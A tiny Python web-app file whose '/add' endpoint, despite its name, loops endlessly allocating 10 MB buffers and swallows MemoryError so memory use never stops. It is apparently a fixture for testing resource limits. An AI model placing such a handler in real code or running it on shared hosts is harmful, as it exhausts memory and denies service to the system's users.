from web import App, request

app = App()


@app.post('/add')
def add():
    kept = []
    while True:
        try:
            kept.append(bytearray(10_000_000))
        except MemoryError:
            kept = [kept]
